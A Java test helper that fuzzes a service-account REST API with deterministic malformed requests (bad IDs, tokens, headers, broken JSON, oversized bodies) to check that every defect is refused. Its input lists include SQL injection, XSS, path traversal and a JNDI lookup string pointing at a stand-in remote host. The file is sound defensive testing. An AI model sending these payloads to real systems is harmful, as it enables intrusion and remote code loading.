package com.serviceaccounts.command;

import com.serviceaccounts.events.serviceaccount.CompanyTools;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Supplier;

/**
 * Generates requests to the command endpoints that each carry at least one defect the API must
 * refuse (a malformed body, a wrong type, a value out of its rules, a wrong content type, a
 * malformed path id or header, an unknown account, a missing token, ...), together with values the
 * API accepts (emoji, right-to-left text, injection strings that are valid names), so that the
 * refusals are reached from many places of the request. Request {@code i} of a seed is always the
 * same: it is generated from its own {@link Random} seeded from the seed and {@code i}.
 *
 * <p>Whether a generated part is a defect is decided here, conservatively: only what the API's
 * documentation says is refused counts, and a request without a defect gets one in its path or
 * headers. So any 2xx answer means the service accepted something it must not.
 */
final class MalformedRequests {

  /** The write endpoints of {@code ServiceAccountCommandController}. */
  enum Endpoint {
    CREATE("POST", ""),
    EDIT("PATCH", "/{id}"),
    PERMISSIONS("PATCH", "/{id}/permissions"),
    ROTATE_SECRET("POST", "/{id}/secret-rotations"),
    DEACTIVATE("POST", "/{id}/deactivation"),
    REACTIVATE("POST", "/{id}/reactivation"),
    RESTORE("POST", "/{id}/restoration"),
    DELETE("DELETE", "/{id}");

    final String method;
    final String suffix;

    Endpoint(String method, String suffix) {
      this.method = method;
      this.suffix = suffix;
    }

    boolean hasAccount() {
      return this != CREATE;
    }

    boolean readsBody() {
      return this == CREATE || this == EDIT || this == PERMISSIONS || this == ROTATE_SECRET;
    }
  }

  /** One generated request and the defects it carries (never empty). */
  record Generated(
      int index,
      Endpoint endpoint,
      String path,
      Map<String, String> headers,
      byte[] body,
      List<String> defects) {

    /** The request to {@code base} (no trailing slash); the path is not normalized on the way. */
    HttpRequest toHttpRequest(String base) {
      HttpRequest.Builder builder =
          HttpRequest.newBuilder(URI.create(base + path))
              .version(java.net.http.HttpClient.Version.HTTP_1_1)
              .timeout(java.time.Duration.ofSeconds(60))
              .method(
                  endpoint.method,
                  body == null
                      ? HttpRequest.BodyPublishers.noBody()
                      : HttpRequest.BodyPublishers.ofByteArray(body));
      headers.forEach(builder::header);
      return builder.build();
    }

    /** Enough to see what was sent: method, path, headers and the start of the body. */
    String describe() {
      StringBuilder text =
          new StringBuilder("#")
              .append(index)
              .append(' ')
              .append(endpoint.method)
              .append(' ')
              .append(abbreviate(path, 200))
              .append(" defects=")
              .append(defects);
      headers.forEach(
          (name, value) ->
              text.append(" [")
                  .append(name)
                  .append(": ")
                  .append(abbreviate(name.equals("Authorization") ? "…" : value, 80))
                  .append(']'));
      if (body != null) {
        text.append(" body(")
            .append(body.length)
            .append(" bytes)=")
            .append(abbreviate(new String(body, StandardCharsets.UTF_8), 300));
      }
      return text.toString();
    }
  }

  /** The Authorization header values a request can carry. */
  record Tokens(String admin, String readOnly, String expired, String signedByAnotherKey) {}

  private static final String[] KNOWN_APPS = {"sage-intacct", "netsuite", "box", "docusign"};
  private static final List<String> TOOLS = List.copyOf(CompanyTools.ids());
  private static final String[] LEVELS = {"NONE", "READ_ONLY", "STANDARD", "ADMIN"};

  /** Valid names: accepted on their own. */
  private static final String[] GOOD_NAMES = {
    "ERP nightly sync",
    "Robert'); DROP TABLE domainevententry;--",
    "' OR '1'='1",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} #{7*7} %s%s%s %n",
    "😀 rocket 🚀 sync",
    "مزامنة الرواتب",
    "סנכרון לילי",
    "夜間同期 名前",
    "e\u0301le\u0300ve",
    "Z̷̢͍a̶͉͝l̸̡̛g̵̣̈o̴͚͊",
    "\uD83D\uDE00",
    "null",
    "  padded  ",
    "x".repeat(100),
    "\uD83D\uDE80".repeat(100),
  };

  /** Names the rules refuse: blank, too long, control and format characters, broken Unicode. */
  private static final String[] BAD_NAMES = {
    "",
    "   ",
    "\u00A0\u2003",
    "x".repeat(101),
    "\uD83D\uDE00".repeat(101),
    "a\u0000b",
    "\u0000",
    "tab\there",
    "line\nbreak",
    "carriage\rreturn",
    "bell\u0007",
    "del\u007F",
    "next\u0085line",
    "zero\u200Bwidth",
    "joiner\u200D",
    "\u202Eevil.exe",
    "rtl\u202Bembedding",
    "bom\uFEFF",
    "line\u2028separator",
    "paragraph\u2029separator",
    "lone \uD800 high surrogate",
    "lone \uDC00 low surrogate",
    "reversed \uDE00\uD83D pair",
    "\uD800",
    "ends with high \uDBFF",
    "👩\u200D👩\u200D👧",
  };

  /** Emails the rules refuse. */
  private static final String[] BAD_EMAILS = {
    "",
    "   ",
    "not-an-email",
    "a@b",
    "@acme.example",
    "someone@",
    "two@@acme.example",
    "has space@acme.example",
    "robert'); DROP TABLE service_account_lookup;--@acme.example",
    "<script>@acme.example",
    "ünïcödé@acme.example",
    "user@exämple.example",
    "nul\u0000@acme.example",
    "x@acme..example",
    "x@-acme.example",
    "x".repeat(250) + "@acme.example",
    "\u202Euser@acme.example",
    "user\uD800@acme.example",
  };

  /** Marketplace app ids that are not in the catalogue, or not ids at all. */
  private static final String[] UNKNOWN_APPS = {
    "",
    "unknown-app",
    "SAGE-INTACCT",
    "sage-intacct ",
    "' OR 1=1 --",
    "<img src=x onerror=alert(1)>",
    "../../etc/passwd",
    "x".repeat(101),
    "\u0000",
    "😀",
    "sage\u200Bintacct",
  };

  /** Tool ids that do not exist. */
  private static final String[] UNKNOWN_TOOLS = {
    "payroll",
    "ADMIN",
    "Reports",
    "reports ",
    " reports",
    "",
    "admin\u0000",
    "rep\u200Borts",
    "'; DELETE FROM security_outbox;--",
    "<script>alert(1)</script>",
    "__proto__",
    "constructor",
    "😀",
    "\uD800",
    "x".repeat(1000),
  };

  /** Levels that do not exist (as raw JSON). */
  private static final String[] BAD_LEVELS = {
    "\"admin\"",
    "\"SUPERUSER\"",
    "\"\"",
    "\"READ ONLY\"",
    "\"\\u0000\"",
    "42",
    "-1",
    "1.5",
    "true",
    "{}",
    "[]",
    "[\"ADMIN\"]",
    "null",
  };

  /** App types that do not exist (as raw JSON). */
  private static final String[] BAD_APP_TYPES = {
    "\"custom\"",
    "\"Custom\"",
    "\"UNKNOWN\"",
    "\"\"",
    "\"MARKET\\u200BPLACE\"",
    "42",
    "2.5",
    "false",
    "{}",
    "[\"CUSTOM\"]",
  };

  /** Durations the rotation refuses: malformed (400) or outside 0–30 days (422), as raw JSON. */
  private static final String[] BAD_OVERLAPS = {
    "\"-PT1H\"",
    "\"P31D\"",
    "\"PT721H\"",
    "\"P9999D\"",
    "\"P-1D\"",
    "\"1h\"",
    "\"PT\"",
    "\"tomorrow\"",
    "\"PT1H; DROP TABLE tokenentry\"",
    "\"P\\u0000D\"",
    "true",
    "{}",
    "[\"PT1H\"]",
    "9999999999999",
  };

  private static final String[] GOOD_OVERLAPS = {"\"PT0S\"", "\"PT1H\"", "\"P1D\"", "\"P30D\""};

  /** Path segments that are not UUIDs (before percent-encoding). */
  private static final String[] BAD_IDS = {
    "not-a-uuid",
    "12345",
    "-1",
    "null",
    "undefined",
    "00000000-0000-0000-0000-00000000000g",
    "00000000-0000-0000-0000-0000000000000",
    "0000000-0000-0000-0000-000000000000",
    "{00000000-0000-0000-0000-000000000000}",
    "00000000000000000000000000000000",
    "' OR '1'='1",
    "1; DROP TABLE domainevententry;--",
    "<script>alert(1)</script>",
    "%",
    "%00",
    "\u0000",
    "😀",
    "\u202E00000000-0000-0000-0000-000000000000",
    "\uD800",
    "a/b",
    "a\\b",
    "a;b=c",
    ".",
    "..",
    " ",
    "x".repeat(1500),
  };

  /** If-Match values that are none of this API's ETags. */
  private static final String[] BAD_IF_MATCH = {
    "1",
    "\"0\"",
    "\"-1\"",
    "\"01\"",
    "\"abc\"",
    "\"1\", \"2\"",
    "W/1",
    "w/\"1\"",
    "\"1234567890123456789\"",
    "\"",
    "\"\"",
    "\"1",
    "1\"",
    "'1'",
    "\"1\"x",
    "\"1 \"",
    "\"1\"; DROP TABLE domainevententry",
    "<script>",
    "\"" + "9".repeat(4000) + "\"",
  };

  private static final String[] GOOD_IF_MATCH = {"\"1\"", "W/\"1\"", "*"};

  /** Idempotency keys that are not 1–200 visible ASCII characters. */
  private static final String[] BAD_KEYS = {
    "has space", "x".repeat(201), "tab\tinside", "comma, separated",
  };

  /** Content types no body endpoint reads. */
  private static final String[] BAD_CONTENT_TYPES = {
    "text/plain",
    "application/xml",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=fuzz",
    "application/octet-stream",
    "text/html; charset=utf-8",
    "image/png",
    "garbage",
    "application/json; charset=ebcdic-unknown",
    "application/",
    "/json",
    ";;;",
  };

  private static final String[] GOOD_CONTENT_TYPES = {
    "application/json", "application/json;charset=UTF-8", "application/merge-patch+json",
  };

  private static final int HUGE = 2_000_000;

  private final long seed;
  private final UUID company;
  private final UUID account;
  private final Tokens tokens;

  MalformedRequests(long seed, UUID company, UUID account, Tokens tokens) {
    this.seed = seed;
    this.company = company;
    this.account = account;
    this.tokens = tokens;
  }

  Generated generate(int index, Endpoint endpoint) {
    return new Generation(new Random(seed * 1_000_003L + index), index, endpoint).build();
  }

  /**
   * Requests the fuzzing once answered wrongly, sent on every run whatever the seed: each was a
   * 5xx, an acceptance or a refusal that was no problem+json before the service was fixed.
   */
  List<Generated> regressions() {
    String accounts = "/companies/" + company + "/service-accounts";
    String target = accounts + "/" + account;
    byte[] notAForm = {(byte) 0xFF, (byte) 0xFE, '=', '%', 'z', (byte) 0xC3};
    List<Generated> cases = new ArrayList<>();
    // A form body: Spring's form filter parsed PATCH bodies (500), Tomcat POST bodies (400 JSON).
    cases.add(
        fixed(-1, Endpoint.PERMISSIONS, target + "/permissions", FORM, notAForm, "form body"));
    cases.add(fixed(-2, Endpoint.CREATE, accounts, FORM, notAForm, "form body"));
    cases.add(
        fixed(
            -3, Endpoint.ROTATE_SECRET, target + "/secret-rotations", FORM, notAForm, "form body"));
    // Half a surrogate pair in a name was stored (201, 200).
    cases.add(
        fixed(
            -4,
            Endpoint.CREATE,
            accounts,
            JSON_TYPE,
            utf8(
                "{\"name\":\"lone \\ud800\",\"appType\":\"CUSTOM\",\"contactEmail\":\""
                    + UUID.randomUUID()
                    + "@acme.example\"}"),
            "invalid name"));
    cases.add(
        fixed(
            -5, Endpoint.EDIT, target, JSON_TYPE, utf8("{\"name\":\"\\udc00\"}"), "invalid name"));
    // Refusals that repeat a huge input. A name beyond 50,000 characters is refused by the JSON
    // parser (400); one below is repeated in the 422 and in its security entry, which must still
    // reach Kafka.
    cases.add(
        fixed(
            -20,
            Endpoint.PERMISSIONS,
            target + "/permissions",
            JSON_TYPE,
            utf8("{" + json("t".repeat(HUGE)) + ":\"ADMIN\"}"),
            "huge tool name"));
    cases.add(
        fixed(
            -21,
            Endpoint.PERMISSIONS,
            target + "/permissions",
            JSON_TYPE,
            utf8("{" + json("t".repeat(40_000)) + ":\"ADMIN\"}"),
            "unknown tool"));
    // Ids Tomcat refuses itself (HTML page) or Spring Security's firewall refuses (plain JSON).
    String[] refusedIds = {"a%2Fb", "%00", "a%5Cb", "%2500", "a%3Bb", "..", "."};
    for (int i = 0; i < refusedIds.length; i++) {
      cases.add(
          fixed(
              -6 - i,
              Endpoint.DEACTIVATE,
              accounts + "/" + refusedIds[i] + "/deactivation",
              Map.of(),
              null,
              "malformed account id"));
    }
    return cases;
  }

  private static final Map<String, String> FORM =
      Map.of("Content-Type", "application/x-www-form-urlencoded");
  private static final Map<String, String> JSON_TYPE = Map.of("Content-Type", "application/json");

  private Generated fixed(
      int index,
      Endpoint endpoint,
      String path,
      Map<String, String> headers,
      byte[] body,
      String defect) {
    Map<String, String> all = new LinkedHashMap<>();
    all.put("Authorization", tokens.admin());
    all.putAll(headers);
    return new Generated(
        index, endpoint, path, Collections.unmodifiableMap(all), body, List.of(defect));
  }

  /** The building of one request: its parts and the defects found on the way. */
  private final class Generation {

    private final Random random;
    private final int index;
    private final Endpoint endpoint;
    private final List<String> defects = new ArrayList<>();
    private final Map<String, String> headers = new LinkedHashMap<>();
    private String companySegment;
    private String accountSegment;
    private byte[] body;

    Generation(Random random, int index, Endpoint endpoint) {
      this.random = random;
      this.index = index;
      this.endpoint = endpoint;
    }

    Generated build() {
      pathParts();
      authorization();
      if (endpoint.hasAccount()) {
        ifMatch();
      }
      if (endpoint == Endpoint.CREATE) {
        idempotencyKey();
      }
      body();
      contentType();
      if (chance(10)) {
        headers.put("X-Correlation-Id", pick("../../x", "a b c", "'; --", "x".repeat(300)));
      }
      while (defects.isEmpty()) {
        mandatoryDefect();
      }
      String path =
          "/companies/"
              + companySegment
              + "/service-accounts"
              + endpoint.suffix.replace("{id}", accountSegment == null ? "" : accountSegment);
      return new Generated(
          index, endpoint, path, Collections.unmodifiableMap(headers), body, List.copyOf(defects));
    }

    private void pathParts() {
      int roll = random.nextInt(100);
      if (roll < 90) {
        companySegment = company.toString();
      } else if (roll < 95) {
        companySegment = UUID.randomUUID().toString();
        defects.add("company of another tenant");
      } else {
        companySegment = badSegment();
        defects.add("malformed company id");
      }
      if (endpoint.hasAccount()) {
        roll = random.nextInt(100);
        if (roll < 60) {
          accountSegment = account.toString();
        } else if (roll < 80) {
          accountSegment = new UUID(random.nextLong(), random.nextLong()).toString();
          defects.add("unknown account");
        } else {
          accountSegment = badSegment();
          defects.add("malformed account id");
        }
      }
    }

    private String badSegment() {
      String id = pick(BAD_IDS);
      return URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private void authorization() {
      int roll = random.nextInt(100);
      if (roll < 96) {
        headers.put("Authorization", tokens.admin());
        return;
      }
      switch (random.nextInt(6)) {
        case 0 -> defects.add("no token");
        case 1 -> {
          headers.put("Authorization", "Bearer not.a.jwt");
          defects.add("garbage token");
        }
        case 2 -> {
          headers.put("Authorization", "Basic YWRtaW46YWRtaW4=");
          defects.add("basic credentials");
        }
        case 3 -> {
          headers.put("Authorization", tokens.expired());
          defects.add("expired token");
        }
        case 4 -> {
          headers.put("Authorization", tokens.signedByAnotherKey());
          defects.add("token signed by another key");
        }
        default -> {
          headers.put("Authorization", tokens.readOnly());
          defects.add("caller only READ_ONLY");
        }
      }
    }

    private void ifMatch() {
      int roll = random.nextInt(100);
      if (roll < 50) {
        return;
      }
      if (roll < 62) {
        headers.put("If-Match", pick(GOOD_IF_MATCH));
      } else if (roll < 75) {
        headers.put("If-Match", "\"" + (2 + random.nextInt(1000)) + "\"");
        defects.add("stale If-Match");
      } else {
        putBadHeader("If-Match", BAD_IF_MATCH, "malformed If-Match");
      }
    }

    private void idempotencyKey() {
      int roll = random.nextInt(100);
      if (roll < 60) {
        return;
      }
      if (roll < 75) {
        headers.put("Idempotency-Key", UUID.randomUUID().toString());
      } else {
        putBadHeader("Idempotency-Key", BAD_KEYS, "malformed Idempotency-Key");
      }
    }

    /** A header value the HTTP client can send (it refuses some characters). */
    private void putBadHeader(String name, String[] values, String defect) {
      for (int attempt = 0; attempt < 10; attempt++) {
        String value = pick(values);
        if (sendable(value)) {
          headers.put(name, value);
          defects.add(defect);
          return;
        }
      }
    }

    private void contentType() {
      if (!endpoint.readsBody()) {
        if (chance(30)) {
          headers.put("Content-Type", pick(pick(GOOD_CONTENT_TYPES), pick(BAD_CONTENT_TYPES)));
        }
        return;
      }
      int roll = random.nextInt(100);
      // The rotation's body is optional: without a body, the content type does not matter.
      boolean matters = endpoint != Endpoint.ROTATE_SECRET || (body != null && body.length > 0);
      if (roll < 88) {
        headers.put("Content-Type", pick(GOOD_CONTENT_TYPES));
      } else if (roll < 96) {
        headers.put("Content-Type", pick(BAD_CONTENT_TYPES));
        if (matters) {
          defects.add("unsupported content type");
        }
      } else if (matters) {
        defects.add("no content type");
      }
    }

    private void body() {
      switch (endpoint) {
        case CREATE -> body = objectOrBroken(this::createFields);
        case EDIT -> body = objectOrBroken(this::editFields);
        case PERMISSIONS -> body = objectOrBroken(this::permissionFields);
        case ROTATE_SECRET -> body = rotationBody();
        default -> body = noise();
      }
    }

    /** Most bodies are objects with generated fields; a quarter are broken documents. */
    private byte[] objectOrBroken(Supplier<Map<String, String>> fields) {
      if (chance(25)) {
        return brokenDocument(fields);
      }
      Map<String, String> object = fields.get();
      if (chance(8)) {
        object.put(
            pick("unknownField", "clientSecret", "id", "version", "__proto__", "status", "Name"),
            pick("1", "\"x\"", "null", "{}", "[]"));
        if (endpoint == Endpoint.PERMISSIONS) {
          defects.add("unknown tool");
        } else {
          defects.add("unknown field");
        }
      }
      return utf8(object(object));
    }

    private Map<String, String> createFields() {
      Map<String, String> fields = new LinkedHashMap<>();
      String appType = null;
      int roll = random.nextInt(100);
      if (roll < 75) {
        appType = pick("CUSTOM", "MARKETPLACE");
        fields.put("appType", json(appType));
      } else if (roll < 92) {
        fields.put("appType", pick(BAD_APP_TYPES));
        defects.add("unknown appType");
      } else {
        if (chance(50)) {
          fields.put("appType", "null");
        }
        defects.add("appType missing");
      }
      nameField(fields, true);
      marketplaceField(fields, appType, true);
      roll = random.nextInt(100);
      if (roll < 70) {
        fields.put("contactEmail", json(UUID.randomUUID() + "@acme.example"));
      } else if (roll < 90) {
        fields.put("contactEmail", json(pick(BAD_EMAILS)));
        defects.add("invalid contactEmail");
      } else if (roll < 95) {
        fields.put("contactEmail", pick("{}", "[]", "[\"a@acme.example\"]"));
        defects.add("contactEmail of the wrong type");
      } else {
        defects.add("contactEmail missing");
      }
      return shuffled(fields);
    }

    private Map<String, String> editFields() {
      Map<String, String> fields = new LinkedHashMap<>();
      String appType = null;
      int roll = random.nextInt(100);
      if (roll < 40) {
        appType = pick("CUSTOM", "MARKETPLACE");
        fields.put("appType", json(appType));
      } else if (roll < 55) {
        fields.put("appType", pick(BAD_APP_TYPES));
        defects.add("unknown appType");
      } else if (roll < 60) {
        fields.put("appType", "null");
      }
      if (chance(75)) {
        nameField(fields, false);
      }
      marketplaceField(fields, appType, false);
      roll = random.nextInt(100);
      if (roll < 10) {
        fields.put(
            "contactEmail", json(pick(UUID.randomUUID() + "@acme.example", pick(BAD_EMAILS))));
        defects.add("contactEmail cannot change");
      } else if (roll < 13) {
        fields.put("contactEmail", pick("{}", "[1]"));
        defects.add("contactEmail of the wrong type");
      } else if (roll < 16) {
        fields.put("contactEmail", "null");
      }
      return shuffled(fields);
    }

    private void nameField(Map<String, String> fields, boolean required) {
      int roll = random.nextInt(100);
      if (roll < 45) {
        fields.put("name", json(pick(GOOD_NAMES)));
      } else if (roll < 80) {
        fields.put("name", json(pick(BAD_NAMES)));
        defects.add("invalid name");
      } else if (roll < 88) {
        fields.put("name", pick("{}", "[]", "[\"name\"]", "{\"first\":\"x\"}"));
        defects.add("name of the wrong type");
      } else if (roll < 89) {
        fields.put("name", json("x".repeat(chance(25) ? HUGE : 5_000)));
        defects.add("huge name");
      } else if (roll < 90) {
        fields.put("name", json("\uD83D\uDE00".repeat(50_000)));
        defects.add("100k-char name");
      } else {
        if (chance(50)) {
          fields.put("name", "null");
        }
        if (required) {
          defects.add("name missing");
        }
      }
    }

    /**
     * The marketplace app, consistent or not with the app type. An edit applies to a CUSTOM
     * account, so there an app without {@code appType: MARKETPLACE} is inconsistent too.
     */
    private void marketplaceField(Map<String, String> fields, String appType, boolean create) {
      int roll = random.nextInt(100);
      String effectiveType = create ? appType : (appType == null ? "CUSTOM" : appType);
      if (roll < 40) {
        if ("MARKETPLACE".equals(appType)) {
          defects.add("MARKETPLACE without marketplaceAppId");
        }
        return;
      }
      if (roll < 75) {
        fields.put("marketplaceAppId", json(pick(KNOWN_APPS)));
        if ("CUSTOM".equals(effectiveType)) {
          defects.add("marketplaceAppId with CUSTOM");
        }
      } else if (roll < 92) {
        fields.put("marketplaceAppId", json(pick(UNKNOWN_APPS)));
        if (effectiveType != null) {
          defects.add("unknown marketplace app");
        }
      } else {
        fields.put("marketplaceAppId", pick("{}", "[]", "[\"box\"]"));
        defects.add("marketplaceAppId of the wrong type");
      }
    }

    private Map<String, String> permissionFields() {
      Map<String, String> fields = new LinkedHashMap<>();
      int entries = random.nextInt(5);
      for (int i = 0; i < entries; i++) {
        String tool;
        String toolDefect = null;
        int roll = random.nextInt(100);
        if (roll < 60) {
          tool = TOOLS.get(random.nextInt(TOOLS.size()));
        } else if (roll < 99) {
          tool = pick(UNKNOWN_TOOLS);
          toolDefect = "unknown tool";
        } else {
          tool = "t".repeat(chance(30) ? HUGE : 50_000);
          toolDefect = "huge tool name";
        }
        String level;
        String levelDefect = null;
        roll = random.nextInt(100);
        if (roll < 65) {
          level = json(pick(LEVELS));
        } else {
          level = pick(BAD_LEVELS);
          levelDefect = "invalid level";
        }
        // A tool named twice would keep only its last level: each tool once.
        if (fields.putIfAbsent(tool, level) == null) {
          if (toolDefect != null) {
            defects.add(toolDefect);
          }
          if (levelDefect != null) {
            defects.add(levelDefect);
          }
        }
      }
      if (fields.isEmpty()) {
        defects.add("no tool named");
      }
      return fields;
    }

    private byte[] rotationBody() {
      int roll = random.nextInt(100);
      if (roll < 15) {
        return null;
      }
      if (roll < 20) {
        return utf8(pick("", "null", "{}", "  "));
      }
      if (roll < 40) {
        byte[] broken = brokenDocument(LinkedHashMap::new);
        return broken;
      }
      Map<String, String> fields = new LinkedHashMap<>();
      roll = random.nextInt(100);
      if (roll < 30) {
        fields.put("previousSecretValidFor", pick(GOOD_OVERLAPS));
      } else if (roll < 90) {
        fields.put("previousSecretValidFor", pick(BAD_OVERLAPS));
        defects.add("invalid previousSecretValidFor");
      } else {
        fields.put("previousSecretValidFor", "null");
      }
      if (chance(15)) {
        fields.put(pick("overlap", "secret", "previousSecretValidUntil"), "\"PT1H\"");
        defects.add("unknown field");
      }
      return utf8(object(fields));
    }

    /**
     * A body that is not a readable document of the expected shape. Bodies that may still read (an
     * empty rotation, a byte-order mark) are not counted as defects.
     */
    private byte[] brokenDocument(Supplier<Map<String, String>> fields) {
      boolean optionalBody = endpoint == Endpoint.ROTATE_SECRET;
      int before = defects.size();
      String valid = object(fields.get());
      List<String> fieldDefects = new ArrayList<>(defects.subList(before, defects.size()));
      // The fields' own defects do not count unless the document stays readable.
      defects.subList(before, defects.size()).clear();
      switch (random.nextInt(17)) {
        case 0 -> {
          defects.add("truncated JSON");
          return utf8(valid.substring(0, 1 + random.nextInt(Math.max(1, valid.length() - 1))));
        }
        case 1 -> {
          defects.add("invalid UTF-8");
          return concat(utf8("{\"name\":\""), invalidUtf8(), utf8("\"}"));
        }
        case 2 -> {
          defects.add("single-quoted JSON");
          return utf8("{'name':'x','appType':'CUSTOM'}");
        }
        case 3 -> {
          defects.add("trailing comma");
          return utf8(valid.substring(0, valid.length() - 1) + ",}");
        }
        case 4 -> {
          defects.add("comment in JSON");
          return utf8("/* hello */" + valid);
        }
        case 5 -> {
          defects.add("NaN");
          return utf8("{\"name\": NaN, \"previousSecretValidFor\": NaN, \"reports\": NaN}");
        }
        case 6 -> {
          defects.add("deeply nested");
          int depth = chance(90) ? 2_000 : 500_000;
          return utf8("[".repeat(depth) + "]".repeat(depth));
        }
        case 7 -> {
          String top = pick("[]", "[{}]", "\"string\"", "42", "true", "1e999999", "-0");
          if (!optionalBody) {
            defects.add("not a JSON object");
          }
          return utf8(top);
        }
        case 8 -> {
          if (!optionalBody) {
            defects.add("empty body");
          }
          return new byte[0];
        }
        case 9 -> {
          if (!optionalBody) {
            defects.add("null body");
          }
          return utf8("null");
        }
        case 10 -> {
          defects.add("garbage bytes");
          byte[] garbage = new byte[chance(5) ? HUGE : 1 + random.nextInt(512)];
          random.nextBytes(garbage);
          garbage[0] = (byte) 0xFF;
          return garbage;
        }
        case 11 -> {
          defects.add("XML");
          return utf8("<?xml version=\"1.0\"?><account><name>x</name></account>");
        }
        case 12 -> {
          // Jackson skips a UTF-8 byte-order mark: the document stays what it was.
          defects.addAll(fieldDefects);
          return concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(valid));
        }
        case 13 -> {
          defects.add("UTF-16 document with unknown fields");
          return ("{\"name\":\"x\",\"appType\":\"CUSTOM\",\"contactEmail\":\"u16@acme.example\","
                  + "\"previousSecretValidFor\":[],\"reports\":{}}")
              .getBytes(StandardCharsets.UTF_16);
        }
        case 14 -> {
          defects.add("unterminated string");
          return utf8("{\"name\":\"" + "x".repeat(random.nextInt(50_000)));
        }
        case 15 -> {
          defects.add("huge number");
          return utf8("{\"name\":" + "9".repeat(chance(5) ? HUGE : 5_000) + "}");
        }
        default -> {
          defects.add("two documents");
          return utf8(valid + valid);
        }
      }
    }

    /** Anything at all, for endpoints that read no body. */
    private byte[] noise() {
      int roll = random.nextInt(100);
      if (roll < 70) {
        return null;
      }
      if (roll < 99) {
        return utf8(pick("{}", "{\"name\":\"x\"}", "garbage", "[[[[", "\u0000", "😀", ""));
      }
      byte[] huge = new byte[HUGE];
      random.nextBytes(huge);
      return huge;
    }

    /** A defect in the path or headers, for a request that has none yet. */
    private void mandatoryDefect() {
      List<Runnable> options = new ArrayList<>();
      options.add(
          () -> {
            companySegment = badSegment();
            defects.add("malformed company id");
          });
      options.add(
          () -> {
            companySegment = UUID.randomUUID().toString();
            defects.add("company of another tenant");
          });
      options.add(
          () -> {
            headers.remove("Authorization");
            defects.add("no token");
          });
      if (endpoint.hasAccount()) {
        options.add(
            () -> {
              accountSegment = badSegment();
              defects.add("malformed account id");
            });
        options.add(
            () -> {
              accountSegment = UUID.randomUUID().toString();
              defects.add("unknown account");
            });
        options.add(() -> putBadHeader("If-Match", BAD_IF_MATCH, "malformed If-Match"));
        options.add(
            () -> {
              headers.put("If-Match", "\"" + (2 + random.nextInt(1000)) + "\"");
              defects.add("stale If-Match");
            });
      } else {
        options.add(() -> putBadHeader("Idempotency-Key", BAD_KEYS, "malformed Idempotency-Key"));
      }
      options.get(random.nextInt(options.size())).run();
    }

    private Map<String, String> shuffled(Map<String, String> fields) {
      List<Map.Entry<String, String>> entries = new ArrayList<>(fields.entrySet());
      Collections.shuffle(entries, random);
      Map<String, String> shuffled = new LinkedHashMap<>();
      entries.forEach(entry -> shuffled.put(entry.getKey(), entry.getValue()));
      return shuffled;
    }

    private byte[] invalidUtf8() {
      return switch (random.nextInt(5)) {
        case 0 -> new byte[] {(byte) 0xFF};
        case 1 -> new byte[] {(byte) 0xC3, (byte) 0x28};
        case 2 -> new byte[] {(byte) 0xE2, (byte) 0x82};
        case 3 -> new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80};
        // Half of a surrogate pair in CESU-8: no UTF-8, and no valid name once decoded.
        default -> new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80};
      };
    }

    private boolean chance(int percent) {
      return random.nextInt(100) < percent;
    }

    @SafeVarargs
    private <T> T pick(T... values) {
      return values[random.nextInt(values.length)];
    }
  }

  /** A JSON object from raw JSON values, in the map's order. */
  static String object(Map<String, String> fields) {
    StringBuilder json = new StringBuilder("{");
    fields.forEach(
        (name, value) -> {
          if (json.length() > 1) {
            json.append(',');
          }
          json.append(json(name)).append(':').append(value);
        });
    return json.append('}').toString();
  }

  /**
   * A JSON string. Control characters and every surrogate are escaped ({@code \\uD800}), so a lone
   * surrogate reaches the parser as the escape JSON allows rather than being lost in UTF-8.
   */
  static String json(String value) {
    StringBuilder json = new StringBuilder(value.length() + 2).append('"');
    for (int i = 0; i < value.length(); i++) {
      char c = value.charAt(i);
      if (c == '"' || c == '\\') {
        json.append('\\').append(c);
      } else if (c < 0x20 || Character.isSurrogate(c) || c == 0x7F) {
        json.append("\\u").append(HexFormat.of().toHexDigits(c));
      } else {
        json.append(c);
      }
    }
    return json.append('"').toString();
  }

  /**
   * Whether the HTTP client sends the value as it is: it refuses control characters, and sends
   * characters beyond ASCII as {@code ?}, which would change what the server sees.
   */
  static boolean sendable(String headerValue) {
    if (headerValue.chars().anyMatch(c -> c > 0x7E)) {
      return false;
    }
    try {
      HttpRequest.newBuilder(URI.create("http://localhost/")).header("X-Check", headerValue);
      return true;
    } catch (IllegalArgumentException refused) {
      return false;
    }
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  private static String abbreviate(String text, int max) {
    return text.length() <= max ? text : text.substring(0, max) + "…(" + text.length() + " chars)";
  }
}
